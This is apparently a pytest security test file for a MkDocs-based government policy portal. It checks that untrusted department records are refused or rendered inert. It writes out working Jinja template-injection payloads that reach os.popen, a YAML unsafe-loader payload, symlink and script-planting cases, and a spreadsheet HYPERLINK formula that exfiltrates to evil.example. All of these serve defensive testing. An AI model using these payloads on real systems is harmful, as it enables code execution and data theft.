"""Untrusted department content (issue: security, points 1-3): the injection corpus.

Every payload in tests/fixtures/injection/ is either refused with the clerk's message or ends up
as inert text. "Nothing executed" is proved twice: a payload that would write a file (a fresh
path per test, substituted for ``@MARKER@``) leaves no file, and the same payload, handed to an
unsandboxed Jinja environment or PyYAML's unsafe loader, *does* write it — so the test would
notice if the build ever ran it.
"""

from __future__ import annotations

import csv
import os
import re
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import urlsplit

import jinja2
import pathspec
import pytest
import yaml
from bs4 import BeautifulSoup
from mkdocs.config import load_config
from mkdocs.exceptions import PluginError
from mkdocs.structure.files import get_files

from conftest import ROOT, build, cli_in_process, copy_project
from golden import INJECTION, INJECTION_REPORT, REGENERATE, add_injection, check
from harness.browser import wait_until
from harness.servers import static_site
from macros.core import frontmatter
from macros.core.files import confined
from macros.core.frontmatter import read_file, read_source, split_front_matter
from macros.core.messages import load_messages
from macros.core.problems import ContentError
from macros.load.portal import collect_problems, load_portal
from macros.opendata.exports import policies_csv
from macros.plugin import refuse_unsafe_files
from macros.site.catalog import generated_pages

FIXTURES = INJECTION
EXPECTED = INJECTION_REPORT.expected()  # a golden file: `make golden` rewrites it from the current checker
BODY = "policies/renshe/renshe-injection-body/index.html"
PLAIN = "policies/renshe/renshe-injection-plain/index.html"
TEMPLATE_MESSAGE = "不能包含模板符号"
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
LOADING_RELS = {"stylesheet", "icon", "preload", "prefetch", "preconnect", "dns-prefetch", "modulepreload", "manifest"}


@pytest.fixture
def project_copy(project_copy):
    """The corpus' department folder exists even while no real record is filed there."""
    (project_copy / "docs" / "policies" / "renshe").mkdir(exist_ok=True)
    return project_copy


@pytest.fixture
def content_copy(content_copy):
    (content_copy / "docs" / "policies" / "renshe").mkdir(exist_ok=True)
    return content_copy


def traces(marker: Path) -> list[Path]:
    """Files a payload wrote: ``<marker>-body``, ``<marker>-yaml`` …"""
    return sorted(marker.parent.glob(marker.name + "*"))


def a_record(record_id: str, title: str, body: str = "正文。") -> str:
    """A valid record of the renshe department (the corpus' own header)."""
    header = (FIXTURES / "inert" / "renshe" / "renshe-injection-plain.md").read_text(encoding="utf-8")
    yaml_text, _, _ = split_front_matter(header)
    yaml_text = re.sub(r"^id: .*$", f"id: {record_id}", yaml_text, flags=re.M)
    yaml_text = re.sub(r"^title: .*$", f"title: {title}", yaml_text, flags=re.M)
    return f"---\n{yaml_text}\n---\n\n{body}\n"


# -- the payloads are real ------------------------------------------------------------------


def test_the_template_payloads_would_run_if_jinja_rendered_them(tmp_path):
    marker = tmp_path / "ran"
    text = (FIXTURES / "inert" / "renshe" / "renshe-injection-body.md").read_text(encoding="utf-8")
    payloads = re.findall(r"\{[{%] (?:set x = )?cycler\.__init__.*?[}%]\}", text.replace("@MARKER@", str(marker)))
    assert len(payloads) == 3
    for payload in payloads:
        jinja2.Environment().from_string(payload).render()  # mkdocs-macros' default, unsandboxed
    assert [p.name for p in traces(marker)] == ["ran-body", "ran-code", "ran-set"]


def test_the_yaml_tag_payload_would_run_with_an_unsafe_loader(tmp_path):
    marker = tmp_path / "ran"
    text = (FIXTURES / "rejected" / "renshe" / "renshe-yaml-python-tag.md").read_text(encoding="utf-8")
    yaml.unsafe_load(split_front_matter(text.replace("@MARKER@", str(marker)))[0])
    assert traces(marker) == [tmp_path / "ran-yaml"]


# -- refused, with the clerk's message ----------------------------------------------------------


def test_every_refused_record_gets_its_message_and_nothing_runs(content_copy, tmp_path):
    marker = tmp_path / "ran"
    add_injection(content_copy, "rejected", marker)
    result = check(content_copy)
    assert result.returncode == 1
    assert "Traceback" not in result.stdout + result.stderr
    assert result.stdout == EXPECTED, REGENERATE
    assert traces(marker) == []


@pytest.mark.slow
def test_the_build_refuses_them_with_the_same_messages_and_publishes_nothing(project_copy, tmp_path):
    marker = tmp_path / "ran"
    add_injection(project_copy, "rejected", marker)
    result = build(project_copy)
    assert result.returncode != 0
    for line in EXPECTED.strip().split("\n")[:-1]:
        assert line in result.stdout + result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    assert not (project_copy / "site" / "index.html").exists()
    assert traces(marker) == []


def test_an_alias_bomb_and_extreme_nesting_are_refused_unexpanded():
    """Refused while composing, before anything is expanded (how fast: bench/hostile_input.py)."""
    for name in ("renshe-billion-laughs.md", "renshe-deep-nesting.md"):
        raw = (FIXTURES / "rejected" / "renshe" / name).read_bytes()
        source = read_source(f"docs/policies/renshe/{name}", raw, load_messages(ROOT))
        assert len(source.problems) == 1 and source.meta == {}, source.problems
    # far deeper than Python's recursion limit: a message, not a RecursionError
    raw = b"---\ntopic: " + b"[" * 100_000 + b"]" * 100_000 + b"\n---\nbody\n"
    problems = read_source("docs/policies/renshe/deep.md", raw, load_messages(ROOT)).problems
    assert [p.message for p in problems] == ["嵌套层级太深（超过 6 层）；请按模板填写"]


def test_an_oversized_record_is_refused(content_copy):
    target = content_copy / "docs" / "policies" / "renshe" / "renshe-huge.md"
    target.write_text(a_record("renshe-huge", "注入测试：超大文件", "很长的正文。" * 20_000), encoding="utf-8")
    result = cli_in_process(content_copy, "check", str(target))
    assert result.returncode == 1
    size = target.stat().st_size // 1024
    expected = f"docs/policies/renshe/renshe-huge.md:1: 文件: 文件太大（{size} KB）；一条政策应不超过 256 KB"
    assert expected in result.stdout


def test_an_oversized_file_is_refused_before_it_is_read(tmp_path, monkeypatch):
    folder = tmp_path / "docs" / "policies" / "renshe"
    folder.mkdir(parents=True)
    huge = folder / "renshe-sparse.md"
    with open(huge, "wb") as handle:
        handle.truncate(8 * 1024 ** 3)  # 8 GiB, sparse: reading it whole would take minutes and all memory
    small = folder / "renshe-small.md"
    small.write_text(a_record("renshe-small", "注入测试：小文件"), encoding="utf-8")
    opened = []

    def spy(path, *args, **kwargs):
        opened.append(Path(path))
        return open(path, *args, **kwargs)

    monkeypatch.setattr(frontmatter, "open", spy, raising=False)  # what read_file opens
    source = read_file(tmp_path, huge, load_messages(ROOT))
    assert [p.field for p in source.problems] == ["文件"] and "文件太大" in source.problems[0].message
    assert opened == []
    small_source = read_file(tmp_path, small, load_messages(ROOT))
    assert small_source.problems == [] and opened == [small]  # the spy does see a read


def add_index_md_record(project: Path, marker: Path) -> Path:
    """A record named ``index.md``, which matches mkdocs.yml's force_render_paths: its body would go
    through Jinja."""
    target = project / "docs" / "policies" / "renshe" / "index.md"
    payload = f"{{{{ cycler.__init__.__globals__.os.popen('touch {marker}-index').read() }}}}"
    target.write_text(a_record("index", "注入测试：首页文件名", f"{{{{ 6 + 7 }}}} {payload}"), encoding="utf-8")
    return target


def test_a_record_may_not_take_the_name_of_a_rendered_index_page(content_copy, tmp_path):
    marker = tmp_path / "ran"
    target = add_index_md_record(content_copy, marker)
    result = cli_in_process(content_copy, "check", str(target))
    assert ("docs/policies/renshe/index.md:1: 文件名: 政策文件不能叫“index.md”（这是栏目首页的保留文件名）"
            in result.stdout)
    assert traces(marker) == []


@pytest.mark.slow
def test_the_build_refuses_a_record_named_like_a_rendered_index_page(project_copy, tmp_path):
    marker = tmp_path / "ran"
    add_index_md_record(project_copy, marker)
    result = build(project_copy)
    assert result.returncode != 0 and "政策文件不能叫“index.md”" in result.stdout + result.stderr
    assert traces(marker) == []


# -- files outside the repository are never read ---------------------------------------------


def test_read_file_never_follows_a_link_or_leaves_the_project(tmp_path):
    project = tmp_path / "project"
    folder = project / "docs" / "policies" / "renshe"
    folder.mkdir(parents=True)
    outside = tmp_path / "secret.md"
    outside.write_text(a_record("renshe-secret", "外部文件的内容"), encoding="utf-8")
    (folder / "renshe-link.md").symlink_to(outside)
    (project / "docs" / "policies" / "linked").symlink_to(tmp_path, target_is_directory=True)
    os.mkfifo(folder / "renshe-fifo.md")  # opening it would block the build forever
    cases = {
        folder / "renshe-link.md": "符号链接",
        project / "docs" / "policies" / "linked" / "secret.md": "符号链接",
        folder / ".." / ".." / ".." / ".." / "secret.md": "不在网站项目的文件夹中",
        outside: "不在网站项目的文件夹中",
        folder / "renshe-fifo.md": "不是普通文件",
    }
    for path, message in cases.items():
        source = read_file(project, path, load_messages(ROOT))
        assert source.meta == {} and len(source.problems) == 1, (path, source.problems)
        assert message in source.problems[0].message, (path, source.problems)
        assert "外部文件的内容" not in repr(source)
        assert not confined(project, path) or message == "不是普通文件"


def test_a_record_reached_through_a_symlink_is_refused(content_copy, tmp_path):
    outside = tmp_path / "renshe-outside.md"
    outside.write_text(a_record("renshe-outside", "外部文件的内容"), encoding="utf-8")
    (content_copy / "docs" / "policies" / "renshe" / "renshe-outside.md").symlink_to(outside)
    problems, _ = collect_problems(content_copy)
    assert [str(p) for p in problems] == [
        "docs/policies/renshe/renshe-outside.md:1: 文件位置: 政策文件（或它所在的文件夹）是符号链接（快捷方式），"
        "不会被读取；请提交文件本身，不要提交链接"]


def add_unsafe_files(project: Path, tmp_path: Path) -> None:
    """A link to a secret outside the project, and a department's own script and page."""
    secret = tmp_path / "secret.txt"
    secret.write_text("OUTSIDE-SECRET-7f3a", encoding="utf-8")
    folder = project / "docs" / "policies" / "renshe"
    (folder / "leak.txt").symlink_to(secret)
    (folder / "evil.js").write_text("document.title = 'PWNED-js'", encoding="utf-8")
    (folder / "evil.html").write_text('<script src="evil.js"></script>', encoding="utf-8")


@pytest.mark.filterwarnings("ignore:GitWildMatchPattern:DeprecationWarning")  # what mkdocs-macros uses
def test_the_plugin_refuses_files_a_department_folder_must_not_publish(project_copy, tmp_path):
    """The plugin's check on MkDocs' own file list (without a build; the build: the next test)."""
    config = load_config(config_file=str(project_copy / "mkdocs.yml"))
    refuse_unsafe_files(get_files(config), config, load_messages(project_copy))  # the project as it is passes
    add_unsafe_files(project_copy, tmp_path)
    with pytest.raises(PluginError) as refused:
        refuse_unsafe_files(get_files(config), config, load_messages(project_copy))
    only_records = "部门文件夹中只能放政策文件（.md）；网页、脚本、图片等附件不会发布；请删除，或在正文中写明原文链接"
    assert str(refused.value).split("\n")[1:] == [
        f"docs/policies/renshe/evil.html: {only_records}",
        f"docs/policies/renshe/evil.js: {only_records}",
        "docs/policies/renshe/leak.txt: 是符号链接（快捷方式）或指向网站文件夹之外；请提交文件本身"]


@pytest.mark.slow
def test_a_department_folder_publishes_nothing_but_its_records(project_copy, tmp_path):
    """MkDocs copies every other file, following symlinks: a link to a secret, or a department's
    own script, would be published on the portal's origin, which script-src 'self' trusts."""
    add_unsafe_files(project_copy, tmp_path)
    result = build(project_copy)
    site = project_copy / "site"
    published = [p for p in site.rglob("*") if p.is_file()] if site.exists() else []
    assert not any("OUTSIDE-SECRET-7f3a" in p.read_text(errors="ignore") for p in published)
    assert not any(p.name.startswith(("evil.", "leak.")) for p in published)
    assert result.returncode != 0
    assert "docs/policies/renshe/evil.js: 部门文件夹中只能放政策文件（.md）" in result.stdout + result.stderr
    assert "docs/policies/renshe/leak.txt: 是符号链接" in result.stdout + result.stderr


def test_a_document_text_outside_data_is_never_read(content_copy, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("OUTSIDE-SECRET-7f3a\n", encoding="utf-8")
    documents = content_copy / "data" / "documents.yml"
    text = documents.read_text(encoding="utf-8")
    entries = yaml.safe_load(text)
    report = next(d for d in entries if d.get("kind") != "law" and d.get("text_status") == "full")
    outside = os.path.relpath(secret, content_copy / "data")
    text = text.replace(f"text: {report['text']}", f"text: {outside}")
    documents.write_text(text, encoding="utf-8")
    with pytest.raises(ContentError) as refused:
        load_portal(content_copy)
    line = text.split("\n").index(f"  text: {outside}") + 1
    assert [str(p) for p in refused.value.problems] == [
        f"data/documents.yml:{line}: [{entries.index(report)}].text: “{outside}”不在 data/ 中或是符号链接；"
        "全文必须放在 data/texts/ 中"]
    assert "OUTSIDE-SECRET" not in str(refused.value)


# -- inert: the build succeeds and nothing in the output is active ----------------------------


@pytest.fixture(scope="module")
def inert(tmp_path_factory):
    """The inert corpus, built (an extra build: the tests using it are marked slow)."""
    project = copy_project(tmp_path_factory.mktemp("inert"))
    marker = tmp_path_factory.mktemp("traces") / "ran"
    add_injection(project, "inert", marker)
    result = build(project)
    assert result.returncode == 0, result.stdout + result.stderr
    site = project / "site"
    return SimpleNamespace(site=site, marker=marker, result=result,
                           html={name: (site / name).read_text(encoding="utf-8") for name in (BODY, PLAIN)})


@pytest.mark.slow
def test_body_templates_are_shown_literally_and_never_run(inert):
    assert traces(inert.marker) == []
    text = BeautifulSoup(inert.html[BODY], "lxml").select_one(".portal-body").get_text()
    for literal in (f"{{{{ cycler.__init__.__globals__.os.popen('touch {inert.marker}-code').read() }}}}",
                    "{{ 6 + 7 }} 与 {{ config.site_name }}",
                    "{% for i in range(3) %}循环{{ i }}{% endfor %}",
                    "{# 注释应原样显示 #}"):
        assert literal in text
    # the same payload outside a code span: Markdown may emphasise __init__, but it is only text
    assert f"popen('touch {inert.marker}-body')" in text and f"popen('touch {inert.marker}-set')" in text
    shown = text.replace(str(inert.marker), "")  # the temporary path may hold any digits (pytest-13/...)
    assert "循环0" not in shown and "13" not in shown
    # escaped in the HTML source, so the browser shows it as text
    assert "{{ cycler.__init__.__globals__.os.popen(&#x27;touch" in inert.html[BODY] or \
           "{{ cycler.__init__.__globals__.os.popen('touch" in inert.html[BODY]
    plain = BeautifulSoup(inert.html[PLAIN], "lxml").select_one(".portal-body").get_text()
    assert "正文：{{ 6 + 7 }}" in plain


@pytest.mark.slow
def test_a_second_front_matter_in_the_body_cannot_switch_rendering_on(inert):
    soup = BeautifulSoup(inert.html[BODY], "lxml")
    assert "render_macros: true" in soup.select_one(".portal-body").get_text()
    assert "{{ 6 + 7 }}" in soup.select_one(".portal-body").get_text()


def active_content(html: str) -> list[str]:
    """Everything in a page that could run script, load from elsewhere or restyle it; in the
    department's part (.portal-body), any element beyond text markup."""
    soup = BeautifulSoup(html, "lxml")
    found = []
    body = soup.select_one(".portal-body")
    for script in soup.find_all("script"):
        if not script.get("src") and script.get("type") != "application/json":
            found.append(f"inline script: {script.get_text()[:60]}")
        if script.get("src") and urlsplit(script["src"]).netloc:
            found.append(f"off-site script: {script['src']}")
    for tag in soup.find_all(["iframe", "frame", "object", "embed", "applet", "style", "base"]):
        found.append(f"element: <{tag.name}>")
    for tag in body.find_all(["form", "input", "button", "textarea", "img", "svg", "math", "video", "audio",
                              "source", "link", "meta", "script"]) if body else ():
        found.append(f"element in the department's text: <{tag.name}>")
    for tag in soup.find_all("meta", attrs={"http-equiv": True}):
        found.append(f"meta http-equiv: {tag}")
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            if name.lower().startswith("on"):
                found.append(f"event handler: {name} on <{tag.name}>")
            if name.lower() in ("style", "srcdoc", "formaction", "target"):
                found.append(f"attribute: {name} on <{tag.name}>")
            if name.lower() in ("href", "src", "action", "data", "xlink:href", "formaction"):
                url = re.sub(r"[\x00-\x20]", "", str(value)).lower()
                if url.startswith(BAD_SCHEMES):
                    found.append(f"URL: {name}={value}")
    for link in soup.find_all("link", href=True):  # canonical/alternate name the page; these load something
        if set(link.get("rel", [])) & LOADING_RELS and urlsplit(link["href"]).netloc:
            found.append(f"off-site link: {link['href']}")
    return found


@pytest.mark.slow
def test_no_script_handler_frame_style_or_bad_url_reaches_the_page(inert):
    html = inert.html[BODY]
    assert active_content(html) == []
    assert "PWNED" not in html
    soup = BeautifulSoup(html, "lxml")
    # the sources block: a "site path" that is really another host stays on this site
    for a in soup.find_all("a", href=True):
        assert not re.match(r"^\s*[/\\]{2}", a["href"]) and urlsplit(a["href"]).netloc != "evil.example", a
    body_text = str(soup.select_one(".portal-body"))
    assert "evil.example" not in body_text
    body = soup.select_one(".portal-body")
    # links keep only web URLs, never open a new window, never tell other sites where they came from
    links = body.find_all("a")
    assert {a.get_text() for a in links if a.get("href")} >= {"外部链接", "中国政府网"}
    for a in links:
        assert a.get("href") is None or a["href"].startswith(("https://", "#")), a
        assert set(a.get("rel", [])) >= {"noopener", "noreferrer"}, a
    # no id can clobber the theme's elements (Material reads #__config), no class can fake official UI
    assert len(soup.find_all(id="__config")) == 1 and soup.find(id="__config").name == "script"
    for tag in body.find_all(True):
        assert set(tag.get("class", [])) <= {"headerlink", "admonition", "admonition-title"}, tag
        assert not str(tag.get("id", "")).startswith(("_", "md-", "portal-")), tag


@pytest.mark.slow
def test_the_injection_page_runs_nothing_in_a_browser(page, inert):
    with static_site(inert.site) as url:
        dialogs = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(f"{url}{BODY.removesuffix('index.html')}")
        page.get_by_text("点击领补贴").click()
        for name in ("链接一", "链接二", "链接三", "链接四", "链接五", "链接六", "链接七"):
            page.get_by_text(name, exact=True).click()
        # A link of our own, clicked last: once its javascript: URL has run, so has anything the
        # clicks above queued (a javascript: URL runs in a later task, after the click returns).
        page.evaluate("""() => {
            const probe = document.createElement("a");
            probe.id = "portal-test-probe";
            probe.href = "javascript:void(window.__afterClicks = document.title)";
            probe.textContent = "probe";
            document.body.prepend(probe);
        }""")
        page.click("#portal-test-probe")
        wait_until(page, "typeof window.__afterClicks === 'string'")
        assert "PWNED" not in page.evaluate("window.__afterClicks")
        assert "PWNED" not in page.title()
        assert dialogs == []
        active = "document.querySelectorAll('.portal-body script, .portal-body iframe, .portal-body img').length"
        assert page.evaluate(active) == 0
        # as the browser resolves them, only the two real external links leave this host
        hosts = set(page.eval_on_selector_all(
            ".md-content a[href]", "links => links.filter(a => a.protocol.startsWith('http')).map(a => a.host)"))
        assert hosts - {url.split("/")[2]} == {"www.hubei.gov.cn", "www.gov.cn"}


# -- the portal's own templates are sandboxed ---------------------------------------------------

SANDBOX = {
    # name: (text appended to a portal page that macros render, what the build must print)
    "control": ("{{ 6 + 7 }} 个", None),
    "cycler-globals": ("{{ cycler.__init__.__globals__.os.popen('touch @MARKER@-portal').read() }}",
                       "SecurityError: access to attribute '__init__'"),
    "subclasses": ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "SecurityError: access to attribute '__class__'"),
    "include-outside-docs": ("{% include '../mkdocs.yml' %}", "TemplateNotFound"),
}


@pytest.fixture(scope="module")
def sandbox_builds(tmp_path_factory):
    """One project per payload, appended to laws/index.md (in force_render_paths); built in parallel."""
    def one(name: str):
        project = copy_project(tmp_path_factory.mktemp(f"sandbox-{name}"))
        marker = tmp_path_factory.mktemp(f"traces-{name}") / "ran"
        page = project / "docs" / "laws" / "index.md"
        payload = SANDBOX[name][0].replace("@MARKER@", str(marker))
        page.write_text(page.read_text(encoding="utf-8") + "\n\n" + payload + "\n", encoding="utf-8")
        return name, SimpleNamespace(project=project, marker=marker, result=build(project))

    with ThreadPoolExecutor(max_workers=2) as pool:
        return dict(pool.map(one, SANDBOX))


@pytest.mark.slow
@pytest.mark.parametrize("name", sorted(SANDBOX))
def test_portal_templates_cannot_reach_python_internals_or_files(sandbox_builds, name):
    run = sandbox_builds[name]
    output = run.result.stdout + run.result.stderr
    assert traces(run.marker) == []
    if SANDBOX[name][1] is None:
        # the page really is template-rendered: the harmless expression is computed
        assert run.result.returncode == 0, output
        assert "13 个" in (run.project / "site" / "laws" / "index.html").read_text(encoding="utf-8")
    else:
        assert run.result.returncode != 0
        assert SANDBOX[name][1] in output
        assert "site_name:" not in output  # mkdocs.yml was not included into the error page


@pytest.mark.filterwarnings("ignore:GitWildMatchPattern:DeprecationWarning")  # what mkdocs-macros uses
def test_no_generated_or_department_page_is_template_rendered(portal):
    """mkdocs-macros matches force_render_paths like .gitignore: ``index.md`` matches at any depth,
    so the generated catalog pages (which carry record values) and a record called index.md
    would be rendered by Jinja."""
    config = load_config(str(ROOT / "mkdocs.yml"))
    rendered = config.plugins["macros"].config["force_render_paths"].splitlines()
    spec = pathspec.PathSpec.from_lines("gitwildmatch", rendered)
    untrusted = [page.src_uri for page in generated_pages(portal)] + [p.path for p in portal.policies]
    untrusted += ["policies/renshe/index.md"]
    assert [uri for uri in untrusted if spec.match_file(uri)] == []
    assert spec.match_file("index.md") and spec.match_file("laws/sme-promotion-law.md")


# -- open data --------------------------------------------------------------------------------


def test_csv_cells_cannot_start_a_spreadsheet_formula(content_copy):
    """api/policies.csv is opened in Excel/WPS by officials: a summary starting with = + - @
    would be run as a formula (HYPERLINK exfiltration, DDE)."""
    target = content_copy / "docs" / "policies" / "renshe" / "renshe-formula.md"
    text = a_record("renshe-formula", "注入测试：表格公式")
    formula = 'summary: \'=HYPERLINK("https://evil.example/?d="&A2,"点击查看详情")\''
    text = re.sub(r"^summary: .*$", formula, text, flags=re.M)
    target.write_text(text, encoding="utf-8")
    rows = policies_csv(load_portal(content_copy)).lstrip("\ufeff").splitlines()
    formula_row = next(r for r in rows if r.startswith("renshe-formula,"))
    cells = next(csv.reader([formula_row]))
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
